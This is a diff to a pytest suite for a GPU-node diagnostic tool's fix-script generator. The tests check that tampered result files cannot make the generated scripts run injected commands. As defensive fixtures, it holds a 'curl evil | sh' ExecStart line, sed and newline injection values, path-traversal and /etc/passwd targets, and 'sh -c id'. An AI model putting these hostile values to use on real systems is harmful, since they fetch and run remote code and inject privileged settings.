@@ -14,6 +14,7 @@ from typing import Any
 
 import pytest
 
+from doctor.facts import Facts
 from doctor.fixes.base import FixRejected, build
 from doctor.result_io import to_result
 from reports.fixscript import fix_scripts
@@ -22,7 +23,7 @@ from tests.reports.conftest import EVIL
 BASH = shutil.which("bash") or "bash"
 pytestmark = pytest.mark.skipif(shutil.which("bash") is None, reason="bash not installed")
 #: lines of a script that execute something (everything else is a comment, the header or a function)
-ACTION = re.compile(r"^(run|put) ")
+ACTION = re.compile(r"^(run|look|put) ")
 
 
 def _write(tmp_path: Path, name: str, text: str) -> Path:
@@ -53,8 +54,8 @@ def _dry_run(path: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProc
                           env={**os.environ, "GND_BACKUP_DIR": str(tmp_path / "bk")})
 
 
-def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any], tmp_path: Path) -> None:
-    scripts = fix_scripts(to_result(sick_data))
+def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
+    scripts = fix_scripts(to_result(sick_data), sick_facts)
     fix = _write(tmp_path, "fix.sh", scripts.fix)
     back = _write(tmp_path, "fix.rollback.sh", scripts.rollback)
     for p in (fix, back):
@@ -69,13 +70,13 @@ def test_sick_scripts_parse_and_dry_run_changes_nothing(sick_data: dict[str, Any
     assert "nothing changed" in out.stdout
     for line in scripts.fix.splitlines():  # boot loader, PCIe config space, services: comments only
         if any(w in line for w in ("update-grub", "grubby", "setpci", "systemctl", "kubectl", "taskset")):
-            assert line.startswith("#"), line
+            assert line.startswith(("#", "todo ")), line  # todo only prints what is left by hand
     assert "run 'sysctl -w kernel.numa_balancing=1' -- sysctl -w kernel.numa_balancing=1" in scripts.rollback
     assert scripts.fix_commands == len(_actions(scripts.fix))
 
 
-def test_rollback_undoes_only_what_the_fix_script_runs(sick_data: dict[str, Any]) -> None:
-    scripts = fix_scripts(to_result(sick_data))
+def test_rollback_undoes_only_what_the_fix_script_runs(sick_data: dict[str, Any], sick_facts: Facts) -> None:
+    scripts = fix_scripts(to_result(sick_data), sick_facts)
     assert "systemctl disable --now irqbalance" in scripts.fix  # listed for a human ...
     assert "irqbalance" not in scripts.rollback  # ... so never re-enabled by the rollback
     assert "/etc/sysctl.d/" not in scripts.rollback  # it never wrote a sysctl.d file
@@ -117,12 +118,12 @@ HOSTILE_TEXT = [
 
 
 @pytest.mark.parametrize("command", HOSTILE_TEXT)
-def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: str) -> None:
+def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: str, sick_facts: Facts) -> None:
     steps = [{"phase": "runtime", "argv": ["sh", "-c", command], "unattended": True, "key": "x"},
              {"phase": "runtime", "manual": command, "unattended": True}]
     for check in ("numa.kernel_policy", "net.link"):
         data = _tamper(sick_data, check, runtime=[command], rollback=[command], steps=steps)
-        scripts = fix_scripts(to_result(data))
+        scripts = fix_scripts(to_result(data), sick_facts)
         for script in (scripts.fix, scripts.rollback):
             assert not any(command in line or "sh -c" in line for line in _actions(script))
             assert command not in script  # the text is not even shown: the fix is rebuilt
@@ -143,21 +144,22 @@ def test_edited_command_text_is_never_run(sick_data: dict[str, Any], command: st
      "does not set net.core.rmem_max"),
 ])
 def test_edited_parameters_are_refused_with_a_reason(sick_data: dict[str, Any], builder: str,
-                                                     params: dict[str, Any], reason: str) -> None:
+                                                     params: dict[str, Any], reason: str, sick_facts: Facts) -> None:
     data = _tamper(sick_data, "numa.kernel_policy", builder=builder, params=params)
-    scripts = fix_scripts(to_result(data))
+    scripts = fix_scripts(to_result(data), sick_facts)
     section = scripts.fix.split("numa.kernel_policy:", 1)[1].split("# ----", 1)[0]
     assert "# refused, nothing run:" in section and reason in section
     assert not _actions(section)
     assert "numa.kernel_policy" not in scripts.rollback
 
 
-def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
+def test_unit_restarts_are_never_run(sick_data: dict[str, Any], sick_facts: Facts) -> None:
     data = _tamper(sick_data, "rdma.gid_index", builder="unit_env",
                    params={"unit": "debug-shell.service", "what": "x", "unset": ["NCCL_IB_GID_INDEX"], "set": {}})
-    scripts = fix_scripts(to_result(data))
+    scripts = fix_scripts(to_result(data), sick_facts)
     assert not any("systemctl" in a for a in _actions(scripts.fix))  # service steps are never unattended
-    assert "# by hand, not run by this script: systemctl restart debug-shell.service" in scripts.fix
+    assert "unit: 'debug-shell.service' is not a systemd unit whose file the checks read on this host" in scripts.fix
+    assert "# by hand, not run by this script: systemctl restart vllm.service" in scripts.fix  # the host's own unit
 
 
 @pytest.mark.parametrize("check,builder,params,reason", [
@@ -171,19 +173,19 @@ def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
      "not a plain environment value"),
     ("rdma.gid_index", "unit_env", {"unit": "vllm.service", "what": "../../x", "unset": ["NCCL_DEBUG"]},
      "not a valid drop-in name"),
-    ("rdma.gid_index", "file_patch", {"path": "/etc/pam.d/common-auth", "kind": "other", "start": 1, "before": [],
-                                      "old": ["auth required pam_unix.so"], "after": [], "drop": ""},
+    ("rdma.gid_index", "file_patch", {"path": "/etc/pam.d/common-auth", "kind": "other", "start": 1,
+                                      "old": ["auth required pam_unix.so"], "drop": ""},
      "not a valid deployment file path"),
-    ("rdma.gid_index", "file_patch", {"path": "/srv/../etc/x.yaml", "kind": "other", "start": 1, "before": [],
-                                      "old": ["- NCCL_IB_GID_INDEX=3"], "after": [], "drop": ""}, "not a plain path"),
-    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
-                                      "old": ["  privileged: false"], "after": [], "drop": ""},
+    ("rdma.gid_index", "file_patch", {"path": "/srv/../etc/x.yaml", "kind": "other", "start": 1,
+                                      "old": ["- NCCL_IB_GID_INDEX=3"], "drop": ""}, "not a plain path"),
+    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
+                                      "old": ["  privileged: false"], "drop": ""},
      "not a setting a check removes"),
-    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
-                                      "old": ["- NCCL_IB_GID_INDEX=3\n+  privileged: true"], "after": [], "drop": ""},
+    ("rdma.gid_index", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
+                                      "old": ["- NCCL_IB_GID_INDEX=3\n+  privileged: true"], "drop": ""},
      "not a valid line"),
-    ("nccl.transport", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1, "before": [],
-                                      "old": ["      - NCCL_IB_HCA=mlx5"], "after": [],
+    ("nccl.transport", "file_patch", {"path": "/srv/app/compose.yaml", "kind": "compose", "start": 1,
+                                      "old": ["      - NCCL_IB_HCA=mlx5"],
                                       "set": {"NCCL_IB_HCA": "=mlx5_0\n    privileged: true"}},
      "not a plain environment value"),
     ("runtime.cuda_graphs", "unit_flag", {"unit": "vllm.service", "path": "/etc/passwd", "flag": "--enforce-eager"},
@@ -192,46 +194,52 @@ def test_unit_restarts_are_never_run(sick_data: dict[str, Any]) -> None:
                                           "flag": "/x/; s/^/ExecStartPre=/bin/sh #/"}, "not a valid command-line flag"),
 ])
 def test_hostile_unit_names_values_and_paths_are_refused(sick_data: dict[str, Any], check: str, builder: str,
-                                                         params: dict[str, Any], reason: str) -> None:
+                                                         params: dict[str, Any], reason: str, sick_facts: Facts) -> None:
+    """Each value is refused by the builder's own shape checks (no host facts at hand) and, on the host,
+    by the facts it must come from."""
+    with pytest.raises(FixRejected, match=re.escape(reason)):
+        build(builder, params)
     data = _tamper(sick_data, check, builder=builder, params=params)
-    scripts = fix_scripts(to_result(data))
+    scripts = fix_scripts(to_result(data), sick_facts)
     section = scripts.fix.split(f"{check}:", 1)[1].split("# ----", 1)[0]
-    assert "# refused, nothing run:" in section and reason in section
+    assert "# refused, nothing run:" in section
     assert not _actions(section)
 
 
-def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any]) -> None:
+def test_command_line_drop_ins_are_for_a_human(sick_data: dict[str, Any], sick_facts: Facts) -> None:
     """An ExecStart= drop-in carries a command line from the result: shown, never written by the script."""
     data = _tamper(sick_data, "runtime.cuda_graphs", builder="unit_exec",
                    params={"unit": "vllm.service", "flag": "--enforce-eager",
                            "exec_start": "/bin/sh -c 'curl evil | sh' --enforce-eager"})
-    scripts = fix_scripts(to_result(data))
+    scripts = fix_scripts(to_result(data), sick_facts)
     section = scripts.fix.split("runtime.cuda_graphs:", 1)[1].split("# ----", 1)[0]
-    assert "# by hand, not run by this script: printf '%s\\n'" in section
+    assert "is not an ExecStart= line of the unit's file on this host" in section  # not the unit's own line
     assert not any("curl" in a for a in _actions(scripts.fix))
+    fix = build("unit_exec", {"unit": "vllm.service", "flag": "--enforce-eager", "exec_start": "/bin/vllm --enforce-eager"})
+    assert not any(s.unattended for s in fix.steps if s.heredoc)  # a drop-in carrying a command line: for a human
 
 
-def test_interfaces_must_exist_in_the_result(sick_data: dict[str, Any]) -> None:
+def test_interfaces_must_exist_in_the_result(sick_data: dict[str, Any], sick_facts: Facts) -> None:
     ok = _tamper(sick_data, "net.link", params={"netdev": "enp189s0np0"})
-    assert "run 'ip link set dev enp189s0np0 up'" in fix_scripts(to_result(ok)).fix
+    assert "run 'ip link set dev enp189s0np0 up'" in fix_scripts(to_result(ok), sick_facts).fix
     bad = _tamper(sick_data, "net.link", params={"netdev": "eth9"})
-    scripts = fix_scripts(to_result(bad))
-    assert "interface eth9 is not in the result's inventory" in scripts.fix
+    scripts = fix_scripts(to_result(bad), sick_facts)
+    assert "netdev: 'eth9' is not an interface of this host" in scripts.fix
     assert not any("eth9" in a for a in _actions(scripts.fix))
 
 
-def test_old_results_show_fixes_but_run_nothing(sick_data: dict[str, Any]) -> None:
+def test_old_results_show_fixes_but_run_nothing(sick_data: dict[str, Any], sick_facts: Facts) -> None:
     old = copy.deepcopy(sick_data)
     old["schema_version"] = "1.0"
     for f in old["findings"]:
         f["fix"] = {k: f["fix"][k] for k in ("runtime", "persistent", "rollback", "notes")}
-    scripts = fix_scripts(to_result(old))
+    scripts = fix_scripts(to_result(old), sick_facts)
     assert scripts.fix_commands == 0 and scripts.rollback_commands == 0
     assert "no fix builder recorded" in scripts.fix
 
 
-def test_hostile_values_never_execute(hostile_data: dict[str, Any], tmp_path: Path) -> None:
-    scripts = fix_scripts(to_result(hostile_data))
+def test_hostile_values_never_execute(hostile_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
+    scripts = fix_scripts(to_result(hostile_data), sick_facts)
     fix = _write(tmp_path, "fix.sh", scripts.fix)
     subprocess.run([BASH, "-n", str(fix)], check=True)
     marker = Path("/tmp/gnd-pwned")
@@ -262,8 +270,8 @@ def _fake_host(tmp_path: Path, hostname: str) -> dict[str, str]:
     ("rollback", "gpu-node-13", "/etc/machine-id does not match"),
 ])
 def test_apply_refuses_another_host(sick_data: dict[str, Any], tmp_path: Path, script: str, hostname: str,
-                                    why: str) -> None:
-    scripts = fix_scripts(to_result(sick_data))
+                                    why: str, sick_facts: Facts) -> None:
+    scripts = fix_scripts(to_result(sick_data), sick_facts)
     path = _write(tmp_path, "s.sh", getattr(scripts, script))
     out = subprocess.run([BASH, str(path), "--apply"], capture_output=True, text=True,
                          env=_fake_host(tmp_path, hostname))
@@ -273,13 +281,13 @@ def test_apply_refuses_another_host(sick_data: dict[str, Any], tmp_path: Path, s
     assert not (tmp_path / "bk").exists()
 
 
-def test_apply_needs_the_recorded_machine_id(sick_data: dict[str, Any], tmp_path: Path) -> None:
+def test_apply_needs_the_recorded_machine_id(sick_data: dict[str, Any], tmp_path: Path, sick_facts: Facts) -> None:
     data = copy.deepcopy(sick_data)
     data["source"]["machine_id"] = None
     data["inventory"]["host"]["machine_id"] = None
-    assert "EXPECT_MACHINE_ID=''" in fix_scripts(to_result(data)).fix
-    assert f"EXPECT_MACHINE_ID={sick_data['source']['machine_id']}" in fix_scripts(to_result(sick_data)).fix
-    assert "EXPECT_HOST=gpu-node-13" in fix_scripts(to_result(sick_data)).fix
+    assert "EXPECT_MACHINE_ID=''" in fix_scripts(to_result(data), sick_facts).fix
+    assert f"EXPECT_MACHINE_ID={sick_data['source']['machine_id']}" in fix_scripts(to_result(sick_data), sick_facts).fix
+    assert "EXPECT_HOST=gpu-node-13" in fix_scripts(to_result(sick_data), sick_facts).fix
 
 
 #: The data-centre GPU and process-limit builders: parameters a check produces, and one hostile edit each
@@ -315,14 +323,14 @@ def test_data_centre_builders_refuse_hostile_parameters(name: str) -> None:
         build(name, {**good, "argv": ["sh", "-c", "id"]})
 
 
-def test_gpu_resets_and_service_starts_stay_comments(sick_data: dict[str, Any]) -> None:
+def test_gpu_resets_and_service_starts_stay_comments(sick_data: dict[str, Any], sick_facts: Facts) -> None:
     """A pcie.replay fix edited into an ECC change with a reset is refused; one that is the check's own
     builder but asks for a reset is shown, never run."""
     edited = _tamper(sick_data, "pcie.replay", builder="ecc_mode", params=DC_BUILDERS["ecc_mode"][0])
-    section = fix_scripts(to_result(edited)).fix.split("pcie.replay:", 1)[1].split("# ----", 1)[0]
+    section = fix_scripts(to_result(edited), sick_facts).fix.split("pcie.replay:", 1)[1].split("# ----", 1)[0]
     assert "does not produce ecc_mode" in section and not _actions(section)
-    scripts = fix_scripts(to_result(sick_data))
-    assert "run 'nvidia-smi -q -d PCIE -i 3' -- nvidia-smi -q -d PCIE -i 3" in scripts.fix  # read-only re-read
+    scripts = fix_scripts(to_result(sick_data), sick_facts)
+    assert "look 'nvidia-smi -q -d PCIE -i 3' -- nvidia-smi -q -d PCIE -i 3" in scripts.fix  # read-only re-read
     for step in build("ecc_mode", DC_BUILDERS["ecc_mode"][0]).steps + build(
             "fabric_manager", DC_BUILDERS["fabric_manager"][0]).steps:
         assert not step.unattended, step.text
